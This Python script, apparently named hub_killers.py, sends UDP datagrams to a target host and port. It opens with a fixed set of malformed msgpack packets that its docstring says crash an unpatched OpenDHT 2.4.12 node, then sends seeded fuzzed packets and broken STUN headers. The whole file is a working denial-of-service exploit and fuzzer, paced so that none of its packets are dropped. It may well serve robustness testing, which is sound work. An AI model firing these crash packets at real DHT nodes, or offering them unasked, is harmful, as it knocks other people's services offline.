#!/usr/bin/env python3
"""hub_killers.py ADDRESS PORT COUNT SEED: datagrams that end a bare OpenDHT 2.4.12, then COUNT hostile ones.

The published killers ("e":[], "fileds" without fields, "a" as an integer), each for the wanted
network too; then damaged copies of honest requests, random bytes behind every first byte that the
port knows, and STUN with broken lengths. Paced, so that the kernel drops none.
"""
import random
import socket
import struct
import sys
import time

NETWORK = b"\xa1n\xcd" + struct.pack(">H", 3731)
ID = b"\xa2id\xc4\x14" + bytes(range(1, 21))


def tail(transaction=1, kind=b"r"):
    return (b"\xa1t\xce" + struct.pack(">I", transaction) + b"\xa1y\xa1" + kind + b"\xa1v\xa4RNG1" +
            NETWORK)


def killers():
    yield bytes.fromhex("84a16590a17401a179a165a16e00")  # "e": []
    yield b"\x84\xa1e\x90\xa1t\x01\xa1y\xa1e" + NETWORK
    fields = b"\xa6fileds\x82\xa1f\x90\xa1v\x91\x01"  # "fileds": {"f": [], "v": [1]}
    yield b"\x85\xa1r\x82" + ID + fields + tail()
    yield b"\x85\xa1r\x82" + ID + b"\xa6fileds\x81\xa1f\x90" + tail()
    yield b"\x86\xa1a\x05\xa1q\xa4ping" + tail(kind=b"q")  # "a": 5
    yield b"\x86\xa1a\xcf" + b"\xff" * 8 + b"\xa1q\xa4find" + tail(kind=b"q")
    yield b"\x85\xa1r\x05" + tail()
    yield b"\x84\xa1p\x81\x00\x05\xa1y\xa1v\xa1t\x01" + NETWORK
    yield b"\xdf\xff\xff\xff\xff" + b"\x00" * 40
    yield b"\x81" * 1200  # maps in maps


def honest():
    yield b"\x86\xa1a\x81" + ID + b"\xa1q\xa4ping" + tail(kind=b"q")
    yield (b"\x86\xa1a\x82" + ID + b"\xa6target\xc4\x14" + b"\x55" * 20 + b"\xa1q\xa4find" +
           tail(kind=b"q"))
    yield (b"\x86\xa1a\x82" + ID + b"\xa1h\xc4\x14" + b"\x55" * 20 + b"\xa1q\xa3get" +
           tail(kind=b"q"))
    yield b"\x85\xa1r\x82" + ID + b"\xa2sa\xc4\x04\x0a\x00\x00\x01" + tail()


def hostile(rng):
    pick = rng.random()
    if pick < 0.55:
        data = bytearray(rng.choice(list(honest()) + list(killers())))
        for _ in range(rng.randint(1, 6)):
            at = rng.randrange(len(data))
            what = rng.random()
            if what < 0.5:
                data[at] = rng.randrange(256)
            elif what < 0.7:
                del data[at:at + rng.randint(1, 4)]
                data = data or bytearray(b"\x80")
            else:
                data[at:at] = rng.randbytes(rng.randint(1, 4))
        return bytes(data[:1400])
    if pick < 0.9:
        first = rng.choice([0x80 + rng.randrange(16), 0xDE, 0xDF, rng.randrange(4), rng.randrange(256)])
        return bytes([first]) + rng.randbytes(rng.randint(0, 1300))
    length = rng.choice([0, 1, 4, 8, 0xFFFC, 0xFFFF])
    return (struct.pack(">HHI", 1, length, 0x2112A442) + rng.randbytes(12) +
            rng.randbytes(rng.randint(0, 60)))


def main():
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    address, port, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    rng = random.Random(seed)
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    for datagram in list(killers()) + [hostile(rng) for _ in range(count)]:
        try:
            sock.sendto(datagram, (address, port))
            sent += 1
        except OSError:
            pass
        if sent % 50 == 0:
            time.sleep(0.005)
    print(f"{sent} datagrams sent, seed {seed}")


main()
